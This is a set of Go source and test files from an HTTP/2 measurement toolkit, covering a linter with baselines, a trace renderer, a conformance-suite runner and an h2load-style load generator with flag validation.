import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"h2scope/internal/lint"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout))
}

func run(args []string, out io.Writer) int {
	fs := flag.NewFlagSet("h2lint", flag.ContinueOnError)
	jsonOut := fs.Bool("json", false, "emit diagnostics as a JSON array on stdout")
	list := fs.Bool("list", false, "list analyzers and exit")
	dir := fs.String("C", ".", "analyze the module containing this `directory`")
	baselinePath := fs.String("baseline", "", "suppress findings recorded in this `file` (lines of \"file: analyzer: message\")")
	writeBaseline := fs.Bool("write-baseline", false, "record the current findings to the -baseline file and exit 0")
	enabled := make(map[string]*bool)
	for _, a := range lint.All() {
		enabled[a.Name] = fs.Bool(a.Name, true, a.Doc)
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}

	if *list {
		for _, a := range lint.All() {
			fmt.Fprintf(out, "%-14s %s\n", a.Name, a.Doc)
		}
		return 0
	}

	var analyzers []*lint.Analyzer
	for _, a := range lint.All() {
		if *enabled[a.Name] {
			analyzers = append(analyzers, a)
		}
	}

	patterns := fs.Args()
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}

	loader, err := lint.NewLoader(*dir)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	pkgs, err := loader.Load(patterns...)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}

	diags := lint.Run(analyzers, pkgs)
	for i := range diags {
		// Module-relative paths keep output stable across checkouts.
		if rel, err := filepath.Rel(loader.ModuleRoot, diags[i].Pos.Filename); err == nil {
			diags[i].Pos.Filename = rel
		}
	}

	if *writeBaseline {
		if *baselinePath == "" {
			fmt.Fprintln(os.Stderr, "h2lint: -write-baseline requires -baseline file")
			return 2
		}
		if err := saveBaseline(*baselinePath, diags); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		fmt.Fprintf(out, "h2lint: wrote %d baseline entries to %s\n", len(diags), *baselinePath)
		return 0
	}
	if *baselinePath != "" {
		baseline, err := loadBaseline(*baselinePath)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		kept := diags[:0]
		for _, d := range diags {
			if baseline[baselineKey(d)] {
				continue
			}
			kept = append(kept, d)
		}
		diags = kept
	}

	if *jsonOut {
		type jsonDiag struct {
			Analyzer string `json:"analyzer"`
			File     string `json:"file"`
			Line     int    `json:"line"`
			Col      int    `json:"col"`
			Message  string `json:"message"`
		}
		rows := make([]jsonDiag, 0, len(diags))
		for _, d := range diags {
			rows = append(rows, jsonDiag{
				Analyzer: d.Analyzer,
				File:     d.Pos.Filename,
				Line:     d.Pos.Line,
				Col:      d.Pos.Column,
				Message:  d.Message,
			})
		}
		enc := json.NewEncoder(out)
		enc.SetIndent("", "  ")
		if err := enc.Encode(rows); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
	} else {
		for _, d := range diags {
			fmt.Fprintln(out, d)
		}
	}

	if len(diags) > 0 {
		if !*jsonOut {
			fmt.Fprintf(os.Stderr, "h2lint: %d finding(s) in %d package(s)\n", len(diags), len(pkgs))
		}
		return 1
	}
	return 0
}

// baselineKey renders one diagnostic in the baseline's line-number-free
// format, so grandfathered findings survive unrelated edits to the file.
func baselineKey(d lint.Diagnostic) string {
	return fmt.Sprintf("%s: %s: %s", d.Pos.Filename, d.Analyzer, d.Message)
}

// loadBaseline reads a baseline file into a set of keys. Blank lines and
// #-comments are skipped.
func loadBaseline(path string) (map[string]bool, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("h2lint: baseline: %w", err)
	}
	defer f.Close()
	out := make(map[string]bool)
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		out[line] = true
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("h2lint: baseline: %w", err)
	}
	return out, nil
}

// saveBaseline records diags (already sorted by Run) as baseline lines.
func saveBaseline(path string, diags []lint.Diagnostic) error {
	var b strings.Builder
	b.WriteString("# h2lint baseline: grandfathered findings, one \"file: analyzer: message\" per line.\n")
	b.WriteString("# Regenerate with: go run ./cmd/h2lint -baseline " + path + " -write-baseline ./...\n")
	seen := make(map[string]bool)
	for _, d := range diags {
		key := baselineKey(d)
		if seen[key] {
			continue
		}
		seen[key] = true
		b.WriteString(key + "\n")
	}
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		return fmt.Errorf("h2lint: baseline: %w", err)
	}
	return nil
}
