package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"h2scope/internal/frame"
	"h2scope/internal/trace"
)

// writeSampleTrace exports a small two-stream trace to dir and returns its
// path.
func writeSampleTrace(t *testing.T, dir, name, target string) string {
	t.Helper()
	tr := trace.New(128)
	conn := tr.ConnID()
	tr.ConnOpen(conn, target)
	end := tr.Phase("multiplexing")
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 1, Flags: frame.FlagEndStream | frame.FlagEndHeaders})
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 3, Flags: frame.FlagEndStream | frame.FlagEndHeaders})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: 100})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 3, Length: 100, Flags: frame.FlagEndStream})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: 10, Flags: frame.FlagEndStream})
	end()
	tr.ConnClose(conn, "eof")

	path := filepath.Join(dir, name)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := trace.Write(f, target, tr); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRenderSingleTrace(t *testing.T) {
	dir := t.TempDir()
	path := writeSampleTrace(t, dir, "one.example.jsonl", "one.example")

	var stdout, stderr bytes.Buffer
	if code := run([]string{"-events", path}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d, stderr: %s", code, stderr.String())
	}
	out := stdout.String()
	for _, want := range []string{
		"trace one.example",
		"stream 1",
		"stream 3",
		"[multiplexing]",
		"END_STREAM",
		"DATA",
		"conn-close",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q:\n%s", want, out)
		}
	}
}

func TestSpansMode(t *testing.T) {
	dir := t.TempDir()
	path := writeSampleTrace(t, dir, "one.example.jsonl", "one.example")

	var stdout, stderr bytes.Buffer
	if code := run([]string{"-spans", path}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d, stderr: %s", code, stderr.String())
	}
	out := stdout.String()
	for _, want := range []string{
		"causal spans for one.example",
		"1 connection(s)",
		"conn 1",
		"stream 1:",
		"stream 3:",
		"first-byte=",
		"last-byte=",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("spans output missing %q:\n%s", want, out)
		}
	}
	// The timeline rendering is replaced, not appended to.
	if strings.Contains(out, "[multiplexing]") {
		t.Errorf("spans output contains timeline rows:\n%s", out)
	}
}

func TestMergeDirectory(t *testing.T) {
	dir := t.TempDir()
	writeSampleTrace(t, dir, "a.example.jsonl", "a.example")
	writeSampleTrace(t, dir, "b.example.jsonl", "b.example")

	var stdout, stderr bytes.Buffer
	if code := run([]string{"-merge", dir}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d, stderr: %s", code, stderr.String())
	}
	out := stdout.String()
	for _, want := range []string{"a.example.jsonl", "b.example.jsonl", "total (2 traces)"} {
		if !strings.Contains(out, want) {
			t.Errorf("merge output missing %q:\n%s", want, out)
		}
	}
}

func TestErrors(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run(nil, &stdout, &stderr); code != 2 {
		t.Errorf("no args: exit %d, want 2", code)
	}
	if code := run([]string{"does-not-exist.jsonl"}, &stdout, &stderr); code != 1 {
		t.Errorf("missing file: exit %d, want 1", code)
	}

	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.jsonl")
	if err := os.WriteFile(bad, []byte(`{"domain":"not-a-trace"}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code := run([]string{bad}, &stdout, &stderr); code != 1 {
		t.Errorf("non-trace file: exit %d, want 1", code)
	}

	a := writeSampleTrace(t, dir, "a.jsonl", "a")
	b := writeSampleTrace(t, dir, "b.jsonl", "b")
	if code := run([]string{a, b}, &stdout, &stderr); code != 2 {
		t.Errorf("two files without -merge: exit %d, want 2", code)
	}
}
