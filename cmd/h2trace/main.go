// Command h2trace renders exported frame-level traces (the JSONL files a
// scan writes with -trace) as human-readable per-stream timelines.
//
// Single-file mode renders one trace in full: connection summaries,
// per-stream spans with probe-phase annotations and first/last-byte
// latencies, and (with -events) the raw event log.
//
//	h2trace traces/site-000001.example.jsonl
//	h2trace -events traces/site-000001.example.jsonl
//
// -spans reconstructs the observability layer's causal spans instead: one
// dial → TLS → preface → settle → close chain per connection, with
// per-stream first/last-byte latencies (the same derivation the census
// monitor and flight recorder use):
//
//	h2trace -spans traces/site-000001.example.jsonl
//
// -merge summarizes many traces (files and/or directories of *.jsonl) as
// one table, one row per trace:
//
//	h2trace -merge traces/
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"h2scope/internal/obs"
	"h2scope/internal/trace"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("h2trace", flag.ContinueOnError)
	fs.SetOutput(stderr)
	merge := fs.Bool("merge", false, "summarize many traces as one table")
	events := fs.Bool("events", false, "also dump the raw event log (single-trace mode)")
	spans := fs.Bool("spans", false, "render reconstructed causal spans (dial/tls/preface/settle/close and per-stream byte latencies) instead of the timeline")
	fs.Usage = func() {
		fmt.Fprintf(stderr, "usage: h2trace [-events|-spans] <trace.jsonl>\n")
		fmt.Fprintf(stderr, "       h2trace -merge <trace.jsonl|dir> ...\n\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	paths, err := expandArgs(fs.Args())
	if err != nil {
		fmt.Fprintf(stderr, "h2trace: %v\n", err)
		return 1
	}
	if len(paths) == 0 {
		fs.Usage()
		return 2
	}

	if *merge {
		rows := make([]trace.MergeRow, 0, len(paths))
		for _, path := range paths {
			d, err := readTrace(path)
			if err != nil {
				fmt.Fprintf(stderr, "h2trace: %v\n", err)
				return 1
			}
			rows = append(rows, trace.Summarize(filepath.Base(path), d))
		}
		fmt.Fprint(stdout, trace.RenderMerge(rows))
		return 0
	}

	if len(paths) != 1 {
		fmt.Fprintf(stderr, "h2trace: single-trace mode takes exactly one file (use -merge for many)\n")
		return 2
	}
	d, err := readTrace(paths[0])
	if err != nil {
		fmt.Fprintf(stderr, "h2trace: %v\n", err)
		return 1
	}
	if *spans {
		obs.RenderConns(stdout, d.Target, obs.BuildConns(d.Events))
		return 0
	}
	fmt.Fprint(stdout, trace.Render(d, trace.RenderOptions{Events: *events}))
	return 0
}

// expandArgs resolves each argument to trace files: files pass through,
// directories contribute their *.jsonl entries (sorted).
func expandArgs(args []string) ([]string, error) {
	var paths []string
	for _, arg := range args {
		info, err := os.Stat(arg)
		if err != nil {
			return nil, err
		}
		if !info.IsDir() {
			paths = append(paths, arg)
			continue
		}
		entries, err := os.ReadDir(arg)
		if err != nil {
			return nil, err
		}
		var found []string
		for _, e := range entries {
			if !e.IsDir() && strings.HasSuffix(e.Name(), ".jsonl") {
				found = append(found, filepath.Join(arg, e.Name()))
			}
		}
		if len(found) == 0 {
			return nil, fmt.Errorf("no *.jsonl traces in %s", arg)
		}
		sort.Strings(found)
		paths = append(paths, found...)
	}
	return paths, nil
}

func readTrace(path string) (*trace.Data, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	d, err := trace.Read(f)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	return d, nil
}
