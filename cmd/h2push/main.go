// Command h2push regenerates the paper's Fig. 3: page-load time on the
// push-capable sites with server push enabled versus disabled, each site
// visited repeatedly over its latency-shaped path (the paper visits each
// site 30 times with Firefox's push support toggled).
//
// Usage:
//
//	h2push                     # Jul 2016's six push sites, 30 visits each
//	h2push -epoch 2 -visits 5  # Jan 2017's fifteen sites, quicker
package main

import (
	"flag"
	"fmt"
	"os"

	"h2scope"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2push:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		epochFlag = flag.Int("epoch", 1, "experiment epoch: 1 (Jul 2016) or 2 (Jan 2017)")
		visits    = flag.Int("visits", 30, "visits per site per configuration")
		timeScale = flag.Float64("scale", 1.0, "wall-clock compression factor (results unscaled)")
		seed      = flag.Int64("seed", 3, "population seed")
	)
	flag.Parse()

	epoch := h2scope.EpochJul2016
	if *epochFlag == 2 {
		epoch = h2scope.EpochJan2017
	}
	fmt.Printf("Figure 3: page-load time with server push enabled/disabled (%s, %d visits)\n\n", epoch, *visits)
	res, err := h2scope.RunPushPageLoad(epoch, *visits, *timeScale, *seed)
	if err != nil {
		return err
	}
	fmt.Println(res)
	return nil
}
