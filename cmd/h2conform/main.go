// Command h2conform runs the h2spec-style RFC 7540 conformance suite
// against an HTTP/2 server (see internal/conformance): named checks
// covering framing and frame-size validation, reserved-bit and flag
// handling, SETTINGS rules, PING, flow-control boundaries, and
// header-block rules.
//
// Usage:
//
//	h2conform -target 127.0.0.1:8443 -tls
//	h2conform -profile litespeed        # check a built-in profile in-process
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"h2scope"
	"h2scope/internal/conformance"
	"h2scope/internal/core"
	"h2scope/internal/netsim"
	"h2scope/internal/tlsutil"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2conform:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		target      = flag.String("target", "", "host:port of the HTTP/2 server")
		profileName = flag.String("profile", "", "check a built-in profile in-process instead of a remote target")
		authority   = flag.String("authority", "testbed.example", ":authority for requests")
		useTLS      = flag.Bool("tls", false, "connect with TLS and negotiate h2 via ALPN")
		timeout     = flag.Duration("timeout", 5*time.Second, "per-check timeout")
		adaptive    = flag.Bool("adaptive", false, "the target intentionally re-tunes SETTINGS per client fingerprint; exempt it from the stability check")
	)
	flag.Parse()

	env := &conformance.Env{Authority: *authority, Timeout: *timeout, FingerprintAdaptive: *adaptive}
	switch {
	case *profileName != "":
		var profile h2scope.Profile
		found := false
		for _, p := range h2scope.TestbedProfiles() {
			if strings.EqualFold(p.Family, *profileName) {
				profile, found = p, true
			}
		}
		if !found {
			return fmt.Errorf("unknown profile %q", *profileName)
		}
		srv := h2scope.NewServer(profile, h2scope.DefaultSite(*authority))
		l := netsim.NewListener("conform")
		go func() {
			_ = srv.Serve(l)
		}()
		// A TLS twin of the same server backs the record-layer checks.
		cert, err := tlsutil.SelfSignedCert(*authority)
		if err != nil {
			return fmt.Errorf("generating testbed certificate: %w", err)
		}
		tl := netsim.NewListener("conform-tls")
		go func() {
			_ = srv.Serve(tlsutil.NewFingerprintListener(tl, tlsutil.ServerConfig(cert, true)))
		}()
		defer srv.Close()
		env.Dialer = core.DialerFunc(func() (net.Conn, error) { return l.Dial() })
		env.TLSDialer = core.DialerFunc(func() (net.Conn, error) { return tl.Dial() })
		env.TLSServerName = *authority
	case *target != "":
		env.Dialer = core.DialerFunc(func() (net.Conn, error) {
			nc, err := net.DialTimeout("tcp", *target, *timeout)
			if err != nil {
				return nil, err
			}
			if !*useTLS {
				return nc, nil
			}
			proto, tc, err := tlsutil.NegotiateALPN(nc, *authority)
			if err != nil {
				_ = nc.Close()
				return nil, err
			}
			if proto != tlsutil.ProtoH2 {
				_ = tc.Close()
				return nil, fmt.Errorf("server negotiated %q, not h2", proto)
			}
			return tc, nil
		})
		if *useTLS {
			// The record-layer checks write their own ClientHello, so
			// their dialer hands back the raw TCP connection.
			env.TLSDialer = core.DialerFunc(func() (net.Conn, error) {
				return net.DialTimeout("tcp", *target, *timeout)
			})
			env.TLSServerName = *authority
		}
	default:
		flag.Usage()
		return fmt.Errorf("need -target or -profile")
	}

	results := conformance.RunSuite(env)
	fmt.Print(conformance.Render(results))
	fmt.Println()
	fmt.Println(conformance.Summary(results))
	if len(conformance.Failures(results)) > 0 {
		os.Exit(2)
	}
	return nil
}
