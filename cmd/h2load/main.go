// Command h2load drives load against an HTTP/2 server with N connections
// and M concurrent streams per connection, in the spirit of nghttp2's
// h2load, and prints throughput and latency percentiles.
//
// Usage:
//
//	h2load -target 127.0.0.1:8443 -tls -n 1000 -c 4 -m 16 -path /about.html
//	h2load -profile h2o -n 5000          # hammer a built-in profile in-process
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"strings"
	"time"

	"h2scope"
	"h2scope/internal/h2load"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/tlsutil"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2load:", err)
		os.Exit(1)
	}
}

func run() error {
	var (
		target      = flag.String("target", "", "host:port of the HTTP/2 server")
		profileName = flag.String("profile", "", "hammer a built-in profile in-process instead of a remote target")
		authority   = flag.String("authority", "testbed.example", ":authority for requests")
		path        = flag.String("path", "/about.html", "request path")
		useTLS      = flag.Bool("tls", false, "connect with TLS and negotiate h2 via ALPN")
		requests    = flag.Int("n", 1000, "total number of requests")
		conns       = flag.Int("c", 2, "number of connections")
		streams     = flag.Int("m", 8, "concurrent streams per connection")
		timeout     = flag.Duration("timeout", 10*time.Second, "per-request timeout")
		debugAddr   = flag.String("debug-addr", "", "serve live /metrics, /metrics.json, expvar, and pprof on this address (\":0\" picks a port) while the run is in flight")
	)
	flag.Parse()

	var reg *metrics.Registry
	if *debugAddr != "" {
		reg = metrics.NewRegistry()
		ds, err := metrics.StartDebug(*debugAddr, reg)
		if err != nil {
			return err
		}
		defer func() {
			_ = ds.Close()
		}()
		fmt.Fprintf(os.Stderr, "h2load: debug endpoint: http://%s/metrics\n", ds.Addr())
	}

	var dial func() (net.Conn, error)
	switch {
	case *profileName != "":
		var profile h2scope.Profile
		found := false
		for _, p := range h2scope.TestbedProfiles() {
			if strings.EqualFold(p.Family, *profileName) {
				profile, found = p, true
			}
		}
		if !found {
			return fmt.Errorf("unknown profile %q", *profileName)
		}
		srv := h2scope.NewServer(profile, h2scope.DefaultSite(*authority))
		l := netsim.NewListener("h2load")
		go func() {
			_ = srv.Serve(l)
		}()
		defer srv.Close()
		dial = func() (net.Conn, error) { return l.Dial() }
	case *target != "":
		dial = func() (net.Conn, error) {
			nc, err := net.DialTimeout("tcp", *target, *timeout)
			if err != nil {
				return nil, err
			}
			if !*useTLS {
				return nc, nil
			}
			proto, tc, err := tlsutil.NegotiateALPN(nc, *authority)
			if err != nil {
				_ = nc.Close()
				return nil, err
			}
			if proto != tlsutil.ProtoH2 {
				_ = tc.Close()
				return nil, fmt.Errorf("server negotiated %q, not h2", proto)
			}
			return tc, nil
		}
	default:
		flag.Usage()
		return fmt.Errorf("need -target or -profile")
	}

	fmt.Printf("h2load: %d requests, %d connections x %d streams, %s%s\n",
		*requests, *conns, *streams, *authority, *path)
	res, err := h2load.Run(dial, h2load.Options{
		Connections:    *conns,
		StreamsPerConn: *streams,
		Requests:       *requests,
		Authority:      *authority,
		Path:           *path,
		Timeout:        *timeout,
		Metrics:        reg,
	})
	if err != nil {
		return err
	}
	fmt.Println(res)
	return nil
}
