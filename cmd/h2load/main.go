// Command h2load drives load against an HTTP/2 server with N connections
// striped across T driver threads and M concurrent streams per connection,
// in the spirit of nghttp2's h2load, and prints throughput and latency
// percentiles.
//
// Usage:
//
//	h2load -target 127.0.0.1:8443 -tls -n 1000 -conns 4 -streams 16 -path /about.html
//	h2load -profile h2o -n 5000                  # hammer a built-in profile in-process
//	h2load -profile nghttpd -n 100000 -out -     # JSONL summary on stdout, report on stderr
//
// With -out, the run's machine-readable summary is appended as one JSON
// line; "-out -" reserves stdout for that record and moves the
// human-readable report to stderr, following the census CLI convention.
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"

	"h2scope"
	"h2scope/internal/h2load"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/tlsutil"
)

func main() {
	opts, err := parseFlags(os.Args[1:], os.Stderr)
	if err == flag.ErrHelp {
		os.Exit(2)
	}
	if err == nil {
		err = run(opts, os.Stdout, os.Stderr)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "h2load:", err)
		os.Exit(1)
	}
}

// options carries the parsed, validated command line.
type options struct {
	target      string
	profileName string
	authority   string
	path        string
	useTLS      bool
	requests    int
	conns       int
	threads     int
	streams     int
	shards      int
	timeout     time.Duration
	outPath     string
	debugAddr   string
}

// machineStdout reports whether stdout is reserved for the JSONL summary
// (-out -), pushing all human-readable output to stderr.
func (o *options) machineStdout() bool { return o.outPath == "-" }

// parseFlags parses args and validates flag combinations.
func parseFlags(args []string, errOut io.Writer) (*options, error) {
	o := &options{}
	fs := flag.NewFlagSet("h2load", flag.ContinueOnError)
	fs.SetOutput(errOut)
	fs.StringVar(&o.target, "target", "", "host:port of the HTTP/2 server")
	fs.StringVar(&o.profileName, "profile", "", "hammer a built-in profile in-process instead of a remote target")
	fs.StringVar(&o.authority, "authority", "testbed.example", ":authority for requests")
	fs.StringVar(&o.path, "path", "/about.html", "request path")
	fs.BoolVar(&o.useTLS, "tls", false, "connect with TLS and negotiate h2 via ALPN")
	fs.IntVar(&o.requests, "n", 1000, "total number of requests")
	fs.IntVar(&o.conns, "conns", 2, "number of connections")
	fs.IntVar(&o.threads, "threads", 0, "driver goroutines the connections are striped across (0 = one per connection)")
	fs.IntVar(&o.streams, "streams", 8, "concurrent streams per connection (batch size)")
	fs.IntVar(&o.shards, "shards", 0, "serve shards for the in-process -profile server (0 = GOMAXPROCS)")
	fs.DurationVar(&o.timeout, "timeout", 10*time.Second, "per-batch drain timeout")
	fs.StringVar(&o.outPath, "out", "", "append the machine-readable run summary (one JSON line) to this file; \"-\" streams it to stdout and moves the report to stderr")
	fs.StringVar(&o.debugAddr, "debug-addr", "", "serve live /metrics, /metrics.json, expvar, and pprof on this address (\":0\" picks a port) while the run is in flight")
	if err := fs.Parse(args); err != nil {
		return nil, err
	}
	if narg := fs.NArg(); narg > 0 {
		return nil, fmt.Errorf("unexpected positional arguments: %v", fs.Args())
	}
	if err := o.validate(); err != nil {
		return nil, err
	}
	return o, nil
}

// validate rejects out-of-range values and contradictory combinations.
func (o *options) validate() error {
	if o.target == "" && o.profileName == "" {
		return fmt.Errorf("need -target or -profile")
	}
	if o.target != "" && o.profileName != "" {
		return fmt.Errorf("-target and -profile are mutually exclusive")
	}
	if o.requests < 1 {
		return fmt.Errorf("-n must be >= 1; got %d", o.requests)
	}
	if o.conns < 1 {
		return fmt.Errorf("-conns must be >= 1; got %d", o.conns)
	}
	if o.threads < 0 {
		return fmt.Errorf("-threads must be >= 0; got %d", o.threads)
	}
	if o.streams < 1 {
		return fmt.Errorf("-streams must be >= 1; got %d", o.streams)
	}
	if o.shards < 0 {
		return fmt.Errorf("-shards must be >= 0; got %d", o.shards)
	}
	if o.shards > 0 && o.profileName == "" {
		return fmt.Errorf("-shards needs the in-process -profile server")
	}
	if o.timeout <= 0 {
		return fmt.Errorf("-timeout must be positive; got %v", o.timeout)
	}
	return nil
}

func run(o *options, stdout, stderr io.Writer) (err error) {
	// Human-readable output follows the census convention: stdout
	// normally, stderr when stdout carries the JSONL summary.
	human := stdout
	if o.machineStdout() {
		human = stderr
	}

	var reg *metrics.Registry
	if o.debugAddr != "" {
		reg = metrics.NewRegistry()
		ds, err := metrics.StartDebug(o.debugAddr, reg)
		if err != nil {
			return err
		}
		defer func() {
			_ = ds.Close()
		}()
		fmt.Fprintf(stderr, "h2load: debug endpoint: http://%s/metrics\n", ds.Addr())
	}

	var dial func() (net.Conn, error)
	switch {
	case o.profileName != "":
		var profile h2scope.Profile
		found := false
		for _, p := range h2scope.TestbedProfiles() {
			if strings.EqualFold(p.Family, o.profileName) {
				profile, found = p, true
			}
		}
		if !found {
			return fmt.Errorf("unknown profile %q", o.profileName)
		}
		srv := h2scope.NewServer(profile, h2scope.DefaultSite(o.authority))
		srv.Shards = o.shards
		l := netsim.NewListener("h2load")
		go func() {
			_ = srv.Serve(l)
		}()
		defer srv.Close()
		dial = func() (net.Conn, error) { return l.Dial() }
	default:
		dial = func() (net.Conn, error) {
			nc, err := net.DialTimeout("tcp", o.target, o.timeout)
			if err != nil {
				return nil, err
			}
			if !o.useTLS {
				return nc, nil
			}
			proto, tc, err := tlsutil.NegotiateALPN(nc, o.authority)
			if err != nil {
				_ = nc.Close()
				return nil, err
			}
			if proto != tlsutil.ProtoH2 {
				_ = tc.Close()
				return nil, fmt.Errorf("server negotiated %q, not h2", proto)
			}
			return tc, nil
		}
	}

	threads := o.threads
	if threads == 0 || threads > o.conns {
		threads = o.conns
	}
	fmt.Fprintf(human, "h2load: %d requests, %d connections x %d streams on %d threads, %s%s\n",
		o.requests, o.conns, o.streams, threads, o.authority, o.path)
	res, err := h2load.Run(dial, h2load.Options{
		Connections:    o.conns,
		Threads:        o.threads,
		StreamsPerConn: o.streams,
		Requests:       o.requests,
		Authority:      o.authority,
		Path:           o.path,
		Timeout:        o.timeout,
		Metrics:        reg,
	})
	if err != nil {
		return err
	}
	fmt.Fprintln(human, res)

	if o.outPath != "" {
		w := stdout
		if !o.machineStdout() {
			f, err := os.OpenFile(o.outPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
			if err != nil {
				return err
			}
			defer func() {
				if cerr := f.Close(); err == nil {
					err = cerr
				}
			}()
			w = f
		}
		if err := res.Summary().WriteJSONL(w); err != nil {
			return err
		}
		if !o.machineStdout() {
			fmt.Fprintf(human, "wrote summary record to %s\n", o.outPath)
		}
	}
	return err
}
