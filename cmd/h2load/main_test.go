package main

import (
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"h2scope/internal/h2load"
)

func TestParseFlagsValidation(t *testing.T) {
	cases := []struct {
		name    string
		args    []string
		wantErr string // substring; empty means the args must parse
	}{
		{"profile run", []string{"-profile", "h2o"}, ""},
		{"target run", []string{"-target", "127.0.0.1:443"}, ""},
		{"full tuning", []string{"-profile", "nghttpd", "-n", "100", "-conns", "4", "-threads", "2", "-streams", "16"}, ""},
		{"out to stdout", []string{"-profile", "h2o", "-out", "-"}, ""},
		{"shards with profile", []string{"-profile", "nghttpd", "-shards", "4"}, ""},

		{"no target", nil, "need -target or -profile"},
		{"both targets", []string{"-target", "x:1", "-profile", "h2o"}, "mutually exclusive"},
		{"zero requests", []string{"-profile", "h2o", "-n", "0"}, "-n must be >= 1"},
		{"zero conns", []string{"-profile", "h2o", "-conns", "0"}, "-conns must be >= 1"},
		{"negative threads", []string{"-profile", "h2o", "-threads", "-1"}, "-threads must be >= 0"},
		{"zero streams", []string{"-profile", "h2o", "-streams", "0"}, "-streams must be >= 1"},
		{"shards without profile", []string{"-target", "x:1", "-shards", "2"}, "-shards needs"},
		{"zero timeout", []string{"-profile", "h2o", "-timeout", "0s"}, "-timeout must be positive"},
		{"positional junk", []string{"-profile", "h2o", "extra"}, "unexpected positional arguments"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := parseFlags(tc.args, io.Discard)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("parseFlags(%v) = %v, want nil", tc.args, err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("parseFlags(%v) = %v, want error containing %q", tc.args, err, tc.wantErr)
			}
		})
	}
}

// TestMachineCleanStdout covers the -out - contract: stdout must carry
// exactly one parseable JSONL summary record and nothing else, with the
// human-readable report moved to stderr.
func TestMachineCleanStdout(t *testing.T) {
	opts, err := parseFlags([]string{
		"-profile", "nghttpd", "-n", "50", "-conns", "2", "-streams", "4",
		"-shards", "2", "-out", "-",
	}, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	var stdout, stderr strings.Builder
	if err := run(opts, &stdout, &stderr); err != nil {
		t.Fatalf("run(-out -): %v", err)
	}

	lines := strings.Split(strings.TrimRight(stdout.String(), "\n"), "\n")
	if len(lines) != 1 {
		t.Fatalf("stdout has %d lines, want exactly 1 JSON record:\n%s", len(lines), stdout.String())
	}
	var sum h2load.Summary
	if err := json.Unmarshal([]byte(lines[0]), &sum); err != nil {
		t.Fatalf("stdout is not a clean summary record: %v\nstdout:\n%s", err, stdout.String())
	}
	if sum.Requests != 50 || sum.Errors != 0 {
		t.Errorf("summary requests=%d errors=%d, want 50/0", sum.Requests, sum.Errors)
	}
	if sum.RequestsPerSec <= 0 || sum.DurationNS <= 0 {
		t.Errorf("summary rate=%g duration=%d, want positive", sum.RequestsPerSec, sum.DurationNS)
	}
	if sum.LatencyP50NS <= 0 || sum.LatencyP99NS < sum.LatencyP50NS {
		t.Errorf("summary p50=%d p99=%d, want 0 < p50 <= p99", sum.LatencyP50NS, sum.LatencyP99NS)
	}
	for _, banned := range []string{"req/s", "h2load:", "wrote "} {
		if strings.Contains(stdout.String(), banned) {
			t.Errorf("stdout contains human-readable output %q:\n%s", banned, stdout.String())
		}
	}
	if !strings.Contains(stderr.String(), "req/s") {
		t.Errorf("human report missing from stderr:\n%s", stderr.String())
	}
}

// TestOutFileAppendsRecord covers -out FILE: the summary is appended as
// JSONL while the human report stays on stdout.
